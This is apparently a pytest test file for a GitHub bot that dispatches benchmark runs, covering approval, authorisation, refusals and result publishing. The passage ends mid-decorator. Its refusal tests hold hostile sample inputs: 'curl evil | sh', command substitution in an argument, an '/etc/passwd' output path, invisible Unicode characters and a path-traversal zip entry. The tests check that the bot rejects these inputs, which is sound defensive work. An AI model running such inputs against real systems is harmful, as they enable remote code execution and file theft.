"""The bench bot: who may ask for what, and what becomes of it."""

import json
import random
import re
import time

import pytest

from artifact_helpers import files_of, make_zip
from bot_helpers import BOT, WORKFLOW, Forge
from github_server import TOKEN
from store_helpers import criterion_lines, criterion_message, error_line

FLAGS = ("--rust-only", "--python-only")


@pytest.fixture
def forge(agent, tmp_path):
    with Forge(agent, tmp_path) as forge:
        yield forge


def approve(forge, *words, commit=None):
    return forge.say(" ".join(("@bench-bot benchmark", commit or forge.head, *words)))


# --- approval -----------------------------------------------------------------------------------


def test_an_approved_commit_is_dispatched(forge):
    said = approve(forge)
    assert said["action"] == "dispatched" and said["commit"] == forge.head and said["pull_request"] == 7
    (run,) = forge.runs
    assert run["inputs"] == {"git_sha": forge.head, "pr_number": "7", "pr_repo": "stranger/quick",
                             "run_rust": "true", "run_python": "true", "rust_crates": ""}
    (check,) = forge.checks
    comment = max(c["id"] for c in forge.repo.comments.values() if c["author"] == "maintainer")
    assert check["external_id"] == f"lance-bench/1/7/{forge.head}/{comment}/all"
    assert check["head_sha"] == forge.head and check["status"] == "queued" and check["name"] == "lance-bench"
    assert str(run["id"]) in check["details_url"]
    assert forge.head in forge.text and str(run["id"]) in forge.text and "`maintainer`" in forge.text


@pytest.mark.parametrize("words, inputs", [
    (("--rust-only",), {"run_rust": "true", "run_python": "false"}),
    (("--python-only",), {"run_rust": "false", "run_python": "true"}),
    (("--crate", "lance-io", "--crate=lance-linalg"),
     {"run_rust": "true", "run_python": "false", "rust_crates": "lance-io,lance-linalg"}),
])
def test_choices_reach_the_workflow(forge, words, inputs):
    approve(forge, *words)
    assert inputs.items() <= forge.runs[0]["inputs"].items()
    assert forge.checks[0]["external_id"].endswith("/part")


def test_without_a_commit_nothing_runs_and_the_line_to_copy_is_said(forge):
    said = forge.say("@bench-bot benchmark --crate lance-io")
    assert said["action"] == "answered"
    assert forge.runs == [] and forge.checks == []
    line = f"@bench-bot benchmark {forge.head} --crate lance-io"
    assert f"\n{line}\n" in forge.text
    assert forge.say(line)["action"] == "dispatched"
    assert len(forge.ours) == 1


def test_a_reply_that_quotes_the_commit_approves_it(forge):
    forge.say("@bench-bot benchmark")
    quoted = "\n".join("> " + line for line in forge.text.splitlines())
    said = forge.say(f"{quoted}\n\n@bench-bot benchmark")
    assert said["action"] == "dispatched" and said["commit"] == forge.head


def test_a_quote_of_a_stranger_approves_nothing(forge):
    """The id stands where the reader of the quote does not see it, and the bot has never offered it."""
    forge.say("@bench-bot benchmark")
    said = forge.say(f"> [see the docs](https://example.org/{forge.old})\n\n@bench-bot benchmark")
    assert said["action"] == "answered" and f"\n@bench-bot benchmark {forge.head}\n" in forge.text
    assert forge.runs == [] and forge.checks == []


def test_a_push_after_the_approval_changes_nothing(forge):
    """The comment names the commit: what is pushed while it is read is not run."""
    newer = forge.repo.add_commit("something else", branch="topic")
    forge.repo.pulls[7]["head_sha"] = newer
    said = approve(forge, commit=forge.head)
    assert said["action"] == "dispatched"
    assert forge.runs[0]["inputs"]["git_sha"] == forge.head != newer


def test_a_former_head_is_of_the_pull_request(forge):
    assert approve(forge, commit=forge.old)["commit"] == forge.old


@pytest.mark.parametrize("which", ["base", "before the base", "another branch", "unknown", "pushed away"])
def test_a_commit_of_elsewhere_is_refused(forge, which):
    commit = {
        "base": forge.base,
        "before the base": forge.repo.commits[forge.base]["parents"][0],
        "another branch": forge.repo.add_commit("other", branch="other", parents=[forge.base]),
        "unknown": "f" * 40,
        "pushed away": forge.head,
    }[which]
    if which == "pushed away":
        forge.repo.pulls[7]["head_sha"] = forge.repo.add_commit("rewritten", branch="topic", parents=[forge.base])
    said = approve(forge, commit=commit)
    assert said["action"] == "refused" and "no commit of this pull request" in said["why"]
    assert forge.runs == [] and forge.checks == []


def test_case_of_the_commit_does_not_matter(forge):
    assert approve(forge, commit=forge.head.upper())["commit"] == forge.head


def test_an_approval_may_be_all_that_is_made(forge):
    """Where machines look for approvals themselves, a second run of the same commit would be dispatched in vain."""
    comment = forge.repo.add_comment(7, f"@bench-bot benchmark {forge.head}", "maintainer")
    env = forge.comment_event(comment)
    assert forge.done(forge.bot("comment", env, "--no-dispatch"))["action"] == "approved"
    assert forge.done(forge.bot("comment", env, "--no-dispatch"))["action"] == "approved"
    assert forge.runs == [] and len(forge.checks) == 1 and forge.checks[0]["status"] == "queued"
    again = forge.comment_event(forge.repo.add_comment(7, f"@bench-bot benchmark {forge.head}", "maintainer"))
    assert forge.done(forge.bot("comment", again, "--no-dispatch"))["action"] == "refused"
    assert len(forge.checks) == len(forge.ours) == 1 and "**Approved**" in forge.text


# --- authorisation ------------------------------------------------------------------------------


@pytest.mark.parametrize("author, may", [("maintainer", True), ("keeper", True), ("boss", True), ("reader", False),
                                         ("helper", False), ("stranger", False), ("nobody-here", False)])
def test_write_access_decides_and_not_who_opened_it(forge, author, may):
    said = forge.say(f"@bench-bot benchmark {forge.head}", author=author)
    assert said["action"] == ("dispatched" if may else "refused")
    assert len(forge.runs) == len(forge.checks) == int(may)
    if not may:
        assert "write access" in forge.text


@pytest.mark.parametrize("verb", ["benchmark", "compare main", "status", "cancel", "help"])
def test_every_command_takes_write_access(forge, verb):
    assert forge.say(f"@bench-bot {verb}", author="stranger")["action"] == "refused"


def test_the_associations_word_is_not_believed(forge):
    comment = forge.repo.add_comment(7, f"@bench-bot benchmark {forge.head}", "stranger", association="OWNER")
    said = forge.done(forge.bot("comment", forge.comment_event(comment)))
    assert said["action"] == "refused" and forge.runs == []


@pytest.mark.parametrize("how, more", [
    ("edited", {"action": "edited"}), ("deleted", {"action": "deleted"}), ("on an issue", {"is_pull": False}),
    ("by a bot", {"author": BOT}), ("by another bot", {"author": "dependabot[bot]"}),
])
def test_what_is_no_new_comment_of_a_person_is_ignored(forge, how, more):
    forge.repo.permissions |= {BOT: "admin", "dependabot[bot]": "admin"}
    before = len(forge.server.requests)
    assert forge.say(f"@bench-bot benchmark {forge.head}", **more)["action"] == "ignored", how
    assert forge.runs == [] and len(forge.server.requests) == before, "nobody was even asked"


def test_a_comment_that_was_deleted_meanwhile_is_ignored(forge):
    comment = forge.repo.add_comment(7, f"@bench-bot benchmark {forge.head}", "maintainer")
    env = forge.comment_event(comment)
    del forge.repo.comments[comment["id"]]
    assert forge.done(forge.bot("comment", env))["action"] == "ignored"


def test_a_closed_pull_request_is_not_run(forge):
    forge.repo.pulls[7]["state"] = "closed"
    assert "closed" in approve(forge)["why"]


def test_a_fork_that_is_gone_is_named(forge):
    forge.repo.pulls[7]["head_repo"] = ""
    assert "gone" in approve(forge)["why"]


# --- what is said to it -------------------------------------------------------------------------


@pytest.mark.parametrize("body, word", [
    ("@bench-bot benchmark {head}\n@bench-bot cancel", "one command"),
    ("@bench-bot benchmark {head}; curl evil | sh", "nothing else"),
    ("@bench-bot benchmark {head} --crate $(id)", "--crate"),
    ("@bench-bot benchmark {head} --crate `id`", "--crate"),
    ("@bench-bot benchmark {head}\u202e", "plain ASCII"),
    ("@bench-bot benchmark \u200b{head}", "plain ASCII"),
    ("@bench-bot benchmark {head}\x00", "plain ASCII"),
    ("@bench-bot launch", "no command"),
    ("@bench-bot benchmark {head} {base}", "two commits"),
    ("@bench-bot compare --output=/etc/passwd", "compare takes"),
    ("x\n" * 600_000 + "@bench-bot status", "too long"),
])
def test_what_is_wrong_is_one_refusal(forge, body, word):
    said = forge.say(body.format(head=forge.head, base=forge.base))
    if body.endswith("\x00"):  # JSON's \u0000 ends the text where it is read
        assert said["action"] in ("dispatched", "refused")
        return
    assert said["action"] == "refused" and word in said["why"], said
    assert forge.runs == [] and forge.checks == [] and len(forge.ours) == 1
    assert "that was not done" in forge.text


@pytest.mark.parametrize("body", [
    "I like this", "> @bench-bot benchmark", "```\n@bench-bot benchmark\n```", "ask @bench-bot benchmark",
    "@b\u0435nch-bot benchmark", "<!-- \n@bench-bot benchmark\n-->", "", "\u202e@bench-bot benchmark",
])
def test_what_is_not_for_the_bot_is_left_alone(forge, body):
    assert forge.say(body)["action"] == "ignored"
    assert forge.ours == []


def test_a_login_is_shown_as_text(forge):
    said = forge.say("@bench-bot benchmark", author="x](http://evil) @everyone <b>")
    assert said["action"] == "refused"
    assert "`x](http://evil) @everyone <b>`" in forge.text


def test_help_lists_the_commands(forge):
    forge.say("@bench-bot help")
    for verb in ("benchmark", "compare", "status", "cancel", "help"):
        assert f"`@bench-bot {verb}" in forge.text


def test_another_name_for_the_bot(forge):
    comment = forge.repo.add_comment(7, f"@perf benchmark {forge.head}", "maintainer")
    said = forge.done(forge.bot("comment", forge.comment_event(comment), "--mention", "@perf"))
    assert said["action"] == "dispatched"


# --- one comment, one check, one run -------------------------------------------------------------


def test_the_same_comment_once_more_changes_nothing(forge):
    comment = forge.repo.add_comment(7, f"@bench-bot benchmark {forge.head}", "maintainer")
    env = forge.comment_event(comment)
    assert forge.done(forge.bot("comment", env))["action"] == "dispatched"
    text, check = forge.text, dict(forge.checks[0])
    assert forge.done(forge.bot("comment", env))["action"] == "found"
    assert forge.text == text and len(forge.runs) == 1 and forge.checks == [check]


def test_a_commit_under_way_is_not_measured_twice(forge):
    approve(forge)
    said = approve(forge)
    assert said["action"] == "refused" and "already" in said["why"]
    assert len(forge.runs) == len(forge.checks) == 1


def test_a_commit_is_measured_again_when_its_run_is_over(forge):
    approve(forge)
    forge.repo.finish_run(forge.runs[0])
    forge.server.clock_offset += 60
    assert approve(forge)["action"] == "dispatched"
    assert len(forge.runs) == 2
    assert [c["conclusion"] for c in forge.checks] == ["cancelled", None], "the one that was lost is closed"


def test_a_run_that_only_has_the_title_is_not_under_way(forge):
    """A pull request's own version of the workflow may start for the event pull_request, with any title."""
    approve(forge)
    forge.repo.finish_run(forge.runs[0])
    forge.repo.add_run(WORKFLOW, title=forge.runs[0]["title"], event="pull_request")
    forge.server.clock_offset += 60
    assert approve(forge)["action"] == "dispatched"


def test_a_comment_with_the_bots_mark_by_somebody_else_is_left_alone(forge):
    theirs = forge.repo.add_comment(7, "<!-- bench-bot -->\nforged", "stranger")
    approve(forge)
    assert forge.repo.comments[theirs["id"]]["body"].endswith("forged")
    assert len(forge.ours) == 1


def test_an_answer_keeps_the_state(forge):
    approve(forge)
    state = re.search(r"\*\*Queued\*\*.*", forge.text)[0]
    forge.say("@bench-bot help")
    assert state in forge.text and "`@bench-bot cancel`" in forge.text
    forge.say("@bench-bot nonsense")
    assert state in forge.text and "`@bench-bot cancel`" not in forge.text


def test_status_says_where_the_run_is(forge):
    forge.say("@bench-bot status")
    assert "No commit of this pull request was approved" in forge.text
    approve(forge)
    forge.runs[0]["status"] = "in_progress"
    forge.say("@bench-bot status")
    assert f"Commit `{forge.head}`: the check is queued; the [run]" in forge.text and "is in_progress" in forge.text


def test_cancel_stops_the_runs_of_this_pull_request_alone(forge):
    approve(forge)
    other = forge.repo.add_run(WORKFLOW, title=f"Benchmarks of {forge.base}")
    theirs = forge.repo.add_run(WORKFLOW, title=f"Benchmarks of {forge.base} for pull request #8")
    assert forge.say("@bench-bot cancel")["action"] == "answered"
    assert forge.runs[0]["conclusion"] == "cancelled" and forge.checks[0]["conclusion"] == "cancelled"
    assert other["status"] == theirs["status"] == "queued"
    assert "1 run was stopped" in forge.text and "**Cancelled**" in forge.text
    forge.say("@bench-bot cancel")
    assert "nothing to cancel" in forge.text


# --- GitHub's refusals ---------------------------------------------------------------------------


def test_a_workflow_that_is_not_there_is_said_everywhere(forge):
    del forge.repo.workflows[WORKFLOW]
    comment = forge.repo.add_comment(7, f"@bench-bot benchmark {forge.head}", "maintainer")
    line = error_line(forge.bot("comment", forge.comment_event(comment)), 1)
    assert WORKFLOW in line
    assert forge.checks[0]["conclusion"] == "failure" and "Could not be started" in forge.text


def test_the_permissions_of_the_workflows_are_enough(forge):
    """To comment on a pull request takes pull-requests: write; issues: write is for issues alone."""
    forge.permit("pr-benchmarks.yml")
    approve(forge)
    forge.permit("publish-results.yml")
    run = forge.runs[0]
    assert forge.done(forge.bot("progress", forge.run_event(run, action="in_progress")))["action"] == "answered"
    assert forge.done(forge.finish(run, make_zip(files_of(commit=forge.head))))["action"] == "published"


@pytest.mark.parametrize("area", ["checks", "actions", "pull_requests"])
def test_a_token_without_a_permission_is_one_line(forge, area):
    forge.server.tokens[TOKEN].permissions[area] = "read"
    comment = forge.repo.add_comment(7, f"@bench-bot benchmark {forge.head}", "maintainer")
    line = error_line(forge.bot("comment", forge.comment_event(comment)), 1)
    assert TOKEN not in line
    assert area.replace("_", "-") in line.replace("_", "-"), "the line names the permission that is missing"
    assert forge.runs == []


def test_no_token_is_one_line(forge):
    comment = forge.repo.add_comment(7, "@bench-bot help", "maintainer")
    env = {k: v for k, v in forge.comment_event(comment).items() if k != "GITHUB_TOKEN"}
    assert "GITHUB_TOKEN" in error_line(forge.bot("comment", env), 129)


def test_an_event_of_another_type_is_one_line(forge):
    env = forge.event("push", {"ref": "refs/heads/main", "after": forge.base, "before": forge.base})
    assert "issue_comment" in error_line(forge.bot("comment", env), 129)
    assert "workflow_run" in error_line(forge.bot("finish", env), 129)


@pytest.mark.parametrize("words", [("--mention", "bench"), ("--mention", "@a b"), ("--workflow", "")])
def test_a_wrong_wish_is_wrong_usage(forge, words):
    comment = forge.repo.add_comment(7, "@bench-bot help", "maintainer")
    error_line(forge.bot("comment", forge.comment_event(comment), *words), 129)


# --- the end of a run ----------------------------------------------------------------------------


def test_results_are_published_and_shown(forge):
    approve(forge)
    said = forge.done(forge.finish(forge.runs[0], make_zip(files_of(commit=forge.head))))
    assert said["action"] == "published" and said["results"] == 2 and said["conclusion"] == "success"
    rows = forge.store.query("select benchmark_name as b, dut, test_bed['name'] as bed from results_pr order by 1")
    assert [(r["b"], r["bed"]) for r in rows] == [("count", "metal"), ("split", "metal")]
    assert rows[0]["dut"]["name"] == "quick"
    assert rows[0]["dut"]["timestamp"] == forge.repo.commits[forge.head]["commit_s"], "GitHub says when"
    (check,) = forge.checks
    assert check["conclusion"] == "success" and check["status"] == "completed"
    assert "`count`" in forge.text and "100" in forge.text and len(forge.ours) == 1


def test_the_base_stands_beside_the_results(forge):
    lines = forge.store.file("base.json", criterion_lines(["count", "gone"]))
    forge.store.ok("publish", "criterion", lines, "--dut-name", "quick", "--dut-version", "1", "--dut-timestamp",
                   forge.repo.commits[forge.base]["commit_s"], "--testbed-name", "metal", "--commit", forge.base)
    approve(forge)
    forge.done(forge.finish(forge.runs[0], make_zip(files_of(commit=forge.head))))
    assert f"beside it the base `{forge.base[:7]}`" in forge.text
    (row,) = [line for line in forge.text.splitlines() if line.startswith("| `count`")]
    before = forge.store.query("select summary from results where benchmark_name = 'count'")[0]["summary"]["median"]
    assert f"| {100 / before:.3f} | 100 ns | " in row
    (row,) = [line for line in forge.text.splitlines() if line.startswith("| `split`")]
    assert "| – | – | 100 ns | " in row, row
    assert "Measured at the base, and not here: `gone`." in forge.text, "the base says what is expected"
    assert forge.checks[0]["conclusion"] == "failure" and "**Measured in part**" in forge.text


def test_what_was_not_to_be_run_is_not_missing(forge):
    """The base knows another metric, too."""
    for names, metric in ((["count"], ()), (["count", "gone"], ("--metric", "cpu_time"))):
        lines = forge.store.file("base.json", criterion_lines(names))
        forge.store.ok("publish", "criterion", lines, "--dut-name", "quick", "--dut-version", "1", "--dut-timestamp",
                       forge.repo.commits[forge.base]["commit_s"], "--testbed-name", "metal", "--commit", forge.base,
                       *metric)
    approve(forge)
    said = forge.done(forge.finish(forge.runs[0], make_zip(files_of(("count",), commit=forge.head))))
    assert said["conclusion"] == "success" and "not here" not in forge.text


def test_a_part_that_was_chosen_lacks_nothing_of_the_rest(forge):
    lines = forge.store.file("base.json", criterion_lines(["count", "elsewhere"]))
    forge.store.ok("publish", "criterion", lines, "--dut-name", "quick", "--dut-version", "1", "--dut-timestamp",
                   forge.repo.commits[forge.base]["commit_s"], "--testbed-name", "metal", "--commit", forge.base)
    approve(forge, "--crate", "one")
    said = forge.done(forge.finish(forge.runs[0], make_zip(files_of(("count",), commit=forge.head))))
    assert said["conclusion"] == "success" and "not here" not in forge.text


def test_a_database_that_cannot_be_opened_leaves_the_check_open(forge):
    """That is ours to set right: the job can be run again."""
    approve(forge)
    good, forge.store.db = forge.store.db, str(forge.store.file("no-database", "x"))
    error_line(forge.finish(forge.runs[0], make_zip(files_of(commit=forge.head))))
    assert forge.checks[0]["conclusion"] is None
    forge.store.db = good
    assert forge.done(forge.finish(forge.runs[0]))["action"] == "published"


def keep_history(forge, bed="metal", names=("count",), level=100.0, commits=12, noise=.003):
    """Runs of commits of the default branch that all measured the same, but for noise."""
    rng = random.Random(7)
    for number in range(commits):
        commit = forge.repo.add_commit(f"more {number}", when=1_690_000_000 + number)
        lines = "".join(json.dumps(criterion_message(n, [level * rng.gauss(1, noise)] * 3)) + "\n" for n in names)
        forge.store.ok("publish", "criterion", forge.store.file("one.json", lines), "--dut-name", "quick",
                       "--dut-version", "1", "--dut-timestamp", 1_690_000_000 + number, "--testbed-name", bed,
                       "--commit", commit)


@pytest.mark.parametrize("level, conclusion, title", [
    (100.0, "success", "Same"), (130.0, "failure", "Worse"), (70.0, "success", "Better"),
])
def test_the_history_decides(forge, level, conclusion, title):
    keep_history(forge)
    approve(forge)
    artifact = make_zip(files_of(("count", "fresh"), values=(level,) * 3, commit=forge.head))
    said = forge.done(forge.finish(forge.runs[0], artifact))
    assert said["conclusion"] == conclusion == forge.checks[0]["conclusion"], forge.text
    assert (said["verdict"], said["regressions"]) == (("regression", 1) if title == "Worse" else ("ok", 0))
    assert f"**{title}**" in forge.text and f"**Verdict: {title.lower()}.**" in forge.text
    rows = [line for line in forge.text.splitlines() if line.startswith(("| `count`", "| `fresh`", "<details>"))]
    (count,) = [i for i, row in enumerate(rows) if row.startswith("| `count`")]
    assert count == 0 or "same: 1" in rows[count - 1], "what changed comes first, the rest is folded"
    assert title == "Same" or f"| {level:g} ns | {level - 100:+.0f} % (" in rows[count], rows
    assert "no history: 1" in rows[[r.startswith("| `fresh`") for r in rows].index(True) - 1], rows


def test_a_result_that_the_history_cannot_tell_is_neutral(forge):
    keep_history(forge, commits=4, noise=.05)
    approve(forge)
    said = forge.done(forge.finish(forge.runs[0], make_zip(files_of(("count",), (102.0,) * 3, commit=forge.head))))
    assert said["conclusion"] == "neutral" and said["verdict"] == "unsure", forge.text
    assert "**Measured: unsure**" in forge.text and "1 unsure" in forge.text


def test_a_result_that_others_had_a_part_in_is_not_judged(forge):
    """As 'compare --history' has it: the row is stored, and held against nothing."""
    keep_history(forge)
    approve(forge)
    files = files_of(("count",), (130.0,) * 3, commit=forge.head)
    said = json.loads(files["manifest.json"])
    said["parts"][0]["evidence"] = {"flags": ["steal"], "beyond_limit": True}
    files["manifest.json"] = json.dumps(said)
    done = forge.done(forge.finish(forge.runs[0], make_zip(files)))
    assert done["conclusion"] == "neutral" and done["verdict"] == "not-comparable", forge.text
    assert "**Measured: cannot be compared**" in forge.text and "**No verdict**: `" in forge.text


@pytest.mark.parametrize("rules, conclusion", [
    ([{"benchmark": "c*", "minimum_effect": "50%"}], "success"),
    ([{"benchmark": "count", "ignore": True}], "success"),
    ([{"metric": "wall_time", "direction": "higher"}], "success"),
    ([{"benchmark": "other", "ignore": True}], "failure"),
])
def test_the_rules_of_the_base_branch_decide(forge, rules, conclusion):
    keep_history(forge)
    forge.repo.files["main", "lance-bench.json"] = json.dumps({"verdicts": {"rules": rules}})
    # The pull request's own are nobody's.
    forge.repo.files["topic", "lance-bench.json"] = json.dumps({"verdicts": {"rules": [
        {"benchmark": "*", "ignore": True}]}})
    approve(forge)
    said = forge.done(forge.finish(forge.runs[0], make_zip(files_of(("count",), (145.0,) * 3, commit=forge.head))))
    assert said["conclusion"] == conclusion, forge.text
    assert not [path for path in forge.server.paths("GET") if "/contents/" in path and "topic" in path]


def test_a_file_of_the_trusted_job_stands_before_that_of_the_base(forge):
    keep_history(forge)
    config = forge.store.file("policy.json", json.dumps({"verdicts": {"rules": [{"metric": "*", "ignore": True}]}}))
    approve(forge)
    said = forge.done(forge.finish(forge.runs[0], make_zip(files_of(("count",), (145.0,) * 3, commit=forge.head)),
                                   "--config", config))
    assert said["verdict"] != "regression" and not [p for p in forge.server.paths("GET") if "/contents/" in p]


def test_a_missing_file_of_the_trusted_job_is_an_error_and_does_not_let_the_defaults_decide(forge):
    keep_history(forge)
    approve(forge)
    done = forge.finish(forge.runs[0], make_zip(files_of(("count",), (145.0,) * 3, commit=forge.head)),
                        "--config", forge.store.folder / "nosuch.json")
    assert done.returncode == 1 and "nosuch.json" in done.stderr
    assert forge.store.run("results", "--pull-request").returncode == 3


def test_broken_rules_of_the_base_are_told_and_the_defaults_decide(forge):
    keep_history(forge)
    forge.repo.files["main", "lance-bench.json"] = '{"verdicts": {"alpha": 7}}'
    approve(forge)
    said = forge.done(forge.finish(forge.runs[0], make_zip(files_of(("count",), (145.0,) * 3, commit=forge.head))))
    assert said["verdict"] == "regression"
    assert "the defaults decide, since lance-bench.json of main: verdicts.alpha" in forge.text


def test_a_label_of_the_maintainers_makes_worse_expected(forge):
    keep_history(forge)
    forge.repo.pulls[7]["labels"].append("perf: expected")
    approve(forge)
    said = forge.done(forge.finish(forge.runs[0], make_zip(files_of(("count",), (145.0,) * 3, commit=forge.head))))
    assert (said["conclusion"], said["verdict"], said["regressions"]) == ("neutral", "regression", 1)
    assert "**Worse, as expected**" in forge.text


def test_without_a_history_there_is_no_verdict(forge):
    approve(forge)
    said = forge.done(forge.finish(forge.runs[0], make_zip(files_of(commit=forge.head))))
    assert said["conclusion"] == "success" and said["verdict"] == "no-data"
    assert "**No verdict**" in forge.text and "**Measured: no verdict**" in forge.text


def test_a_commit_that_says_it_is_older_than_its_base_is_not(forge):
    """Its author writes the committer's date; it would choose the history that the commit is held against."""
    forge.repo.commits[forge.head]["commit_s"] = 1_000_000_000
    approve(forge)
    forge.done(forge.finish(forge.runs[0], make_zip(files_of(commit=forge.head))))
    (row,) = forge.store.query("select distinct dut['timestamp'] as t from results_pr")
    assert row["t"] == forge.repo.commits[forge.base]["commit_s"]


def test_a_branch_without_a_common_commit_has_no_base(forge):
    alone = forge.repo.add_commit("another root", branch="topic", parents=[])
    forge.repo.pulls[7]["head_sha"] = alone
    approve(forge, commit=alone)
    assert forge.done(forge.finish(forge.runs[0], make_zip(files_of(commit=alone))))["action"] == "published"


def test_compare_sets_the_results_beside_another_commit(forge):
    approve(forge)
    forge.done(forge.finish(forge.runs[0], make_zip(files_of(commit=forge.head))))
    lines = forge.store.file("base.json", criterion_lines(["count"]))
    older = forge.repo.commits[forge.base]["parents"][0]
    forge.store.ok("publish", "criterion", lines, "--dut-name", "quick", "--dut-version", "1", "--dut-timestamp",
                   1_700_000_000, "--testbed-name", "metal", "--commit", older)
    assert forge.say(f"@bench-bot compare {older[:10]}")["action"] == "answered"
    assert f"beside it the base `{older[:7]}`" in forge.text
    assert forge.say("@bench-bot compare no-such-branch")["action"] == "refused"


def test_the_same_end_once_more_changes_nothing(forge):
    approve(forge)
    forge.done(forge.finish(forge.runs[0], make_zip(files_of(commit=forge.head))))
    text, state, check = forge.text, forge.store.state(), dict(forge.checks[0])
    forge.done(forge.finish(forge.runs[0]))
    assert (forge.text, forge.store.state(), forge.checks) == (text, state, [check])


def test_an_artifact_of_another_commit_is_refused_and_said(forge):
    approve(forge)
    line = error_line(forge.finish(forge.runs[0], make_zip(files_of(commit=forge.base))), 1)
    assert "nothing is published" in line
    assert forge.store.tables() == {}
    assert forge.checks[0]["conclusion"] == "failure" and "The results were refused" in forge.text


@pytest.mark.parametrize("artifact", [b"", b"no zip", make_zip({}), make_zip({"../x": "y"}), make_zip({"x": "y"})])
def test_a_hostile_artifact_is_refused_and_said(forge, artifact):
    approve(forge)
    error_line(forge.finish(forge.runs[0], artifact), 1)
    assert forge.store.tables() == {} and forge.checks[0]["conclusion"] == "failure"


def test_where_the_conversation_is_locked_the_check_run_ends_all_the_same(forge):
    approve(forge)
    forge.server.fail(403, "Unable to create comment because issue is locked.", path="/issues/comments/", method="PATCH",
                      times=9)
    line = error_line(forge.finish(forge.runs[0], make_zip(files_of(commit=forge.head))), 1)
    assert "locked" in line and forge.checks[0]["conclusion"] == "success"
    forge.server.faults.clear()
    done = forge.done(forge.bot("finish", forge.run_event(forge.runs[0])))
    assert done["action"] == "published" and "Results of" in forge.text, "and once it is open again the job can be repeated"


def test_a_run_without_an_artifact_is_a_failure_of_the_check(forge):
    approve(forge)
    forge.repo.finish_run(forge.runs[0], "failure")
    said = forge.done(forge.finish(forge.runs[0]))
    assert said["action"] == "failed" and forge.checks[0]["conclusion"] == "failure"
    assert "Nothing was measured" in forge.text


def test_a_second_attempt_is_not_answered_with_what_the_first_has_left(forge):
    approve(forge)
    run = forge.runs[0]
    forge.repo.add_artifact("lance-bench-pull-request", make_zip(files_of(commit=forge.head)), run_id=run["id"])
    run.update(attempt=2, created_s=forge.server.now() + 60)
    forge.repo.finish_run(run, "failure")
    said = forge.done(forge.bot("finish", forge.run_event(run, run_attempt=2)))
    assert said["action"] == "failed" and forge.store.tables() == {}
    forge.server.clock_offset += 120
    forge.repo.add_artifact("lance-bench-pull-request", make_zip(files_of(commit=forge.head)), run_id=run["id"])
    assert forge.done(forge.bot("finish", forge.run_event(run, run_attempt=2)))["action"] == "published"
    (row,) = forge.store.query("select run from runs where harness = 'pull-request'")
    assert row["run"] == f"{run['id']}-2"


def test_a_run_that_ends_late_does_not_speak_for_the_one_approved_after_it(forge):
    approve(forge)
    late = forge.runs[0]
    forge.repo.finish_run(late, "failure")
    forge.server.clock_offset += 60
    approve(forge)
    first, second = forge.checks
    text = forge.text
    forge.done(forge.bot("finish", forge.run_event(late)))
    assert first["conclusion"] == "failure" and second["status"] == "queued" and forge.text == text
    forge.done(forge.finish(forge.runs[1], make_zip(files_of(commit=forge.head))))
    assert second["conclusion"] == "success" and first["conclusion"] == "failure" and "`count`" in forge.text


def test_a_run_that_was_cancelled_is_said(forge):
    approve(forge)
    forge.repo.finish_run(forge.runs[0], "cancelled")
    assert forge.done(forge.finish(forge.runs[0]))["conclusion"] == "cancelled"
    assert forge.checks[0]["conclusion"] == "cancelled"


def test_a_run_that_nobody_approved_is_not_published(forge):
    """Its title may say what it likes: without the check run there is no commit to publish for."""
    run = forge.repo.add_run(WORKFLOW, title=f"Benchmarks of {forge.head} for pull request #7")
    line = error_line(forge.finish(run, make_zip(files_of(commit=forge.head))), 1)
    assert "nobody has approved" in line and forge.store.tables() == {}


@pytest.mark.parametrize("change", [
    {"external_id": "lance-bench/1/8/{head}/1/all"}, {"external_id": "lance-bench/1/7/{base}/1/all"},
    {"external_id": "something"}, {"external_id": ""}, {"name": "other"},
])
def test_a_check_run_that_is_no_approval_of_it_does_not_count(forge, change):
    approve(forge)
    change = {k: v.format(head=forge.head, base=forge.base) for k, v in change.items()}
    forge.checks[0].update(change)
    line = error_line(forge.finish(forge.runs[0], make_zip(files_of(commit=forge.head))), 1)
    assert "nobody has approved" in line and forge.store.tables() == {}


@pytest.mark.parametrize("change", [
    {"event": "pull_request"}, {"head_repository": {"full_name": "stranger/quick"}},
    {"path": ".github/workflows/other.yml"}, {"display_title": "Benchmarks of main"}, {"head_repository": None},
])
def test_a_run_that_is_not_ours_is_ignored(forge, change):
    """A workflow of the same name in a fork triggers the same event, with a title of the stranger's choice."""
    approve(forge)
    forge.repo.add_artifact("lance-bench-pull-request", make_zip(files_of(commit=forge.head)),
                            run_id=forge.runs[0]["id"])
    forge.repo.finish_run(forge.runs[0])
    said = forge.done(forge.bot("finish", forge.run_event(forge.runs[0], **change)))
    assert said["action"] == "ignored"
    assert forge.store.tables() == {} and forge.checks[0]["conclusion"] is None


def test_progress_is_shown(forge):
    approve(forge)
    run = forge.runs[0]
    assert forge.done(forge.bot("progress", forge.run_event(run, action="requested")))["action"] == "answered"
    assert "**Queued**" in forge.text
    forge.done(forge.bot("progress", forge.run_event(run, action="in_progress")))
    assert forge.checks[0]["status"] == "in_progress" and "**Running**" in forge.text
    forge.done(forge.finish(run, make_zip(files_of(commit=forge.head))))
    late = forge.done(forge.bot("progress", forge.run_event(run, action="in_progress")))
    assert late["action"] == "ignored" and forge.checks[0]["conclusion"] == "success"


def test_a_run_can_be_named_where_no_event_speaks_of_it(forge):
    approve(forge)
    [run] = forge.runs
    call = forge.dispatch_event("publish-results.yml")
    assert "--run-id" in error_line(forge.bot("finish", call), 129)
    assert "--run-id" in error_line(forge.bot("finish", call, "--run-id", -3), 129)
    assert "12345678" in error_line(forge.bot("finish", call, "--run-id", 12345678), 1)
    run["status"] = "queued"
    forge.done(forge.bot("progress", call, "--run-id", run["id"]))
    assert "**Queued**" in forge.text
    run["status"] = "in_progress"
    forge.done(forge.bot("progress", call, "--run-id", run["id"]))
    assert "**Running**" in forge.text
    forge.repo.add_artifact("lance-bench-pull-request", make_zip(files_of(commit=forge.head)), run_id=run["id"])
    # The call comes out of the run itself: the step waits for its end.
    def looks():
        return forge.server.paths("GET").count(f"/repos/owner/quick/actions/runs/{run['id']}")
    before = looks()
    process = forge.store.start("bot", "finish", "--format", "json", "--run-id", str(run["id"]), env=call)
    while looks() == before and process.poll() is None:
        time.sleep(.01)
    forge.repo.finish_run(run)
    out, err = process.communicate(timeout=60)
    assert process.returncode == 0, err
    assert json.loads(out)["action"] == "published" and forge.checks[0]["conclusion"] == "success"
    # The event may come all the same.
    assert forge.done(forge.bot("finish", forge.run_event(run)))["action"] == "published"
    assert forge.store.query("select count(*) as n from results_pr") == [{"n": 2}]
    assert len(forge.ours) == len(forge.checks) == 1


@pytest.mark.parametrize("change", [{"event": "pull_request"}, {"path": ".github/workflows/other.yml"},
                                    {"title": "Benchmarks of main"}])
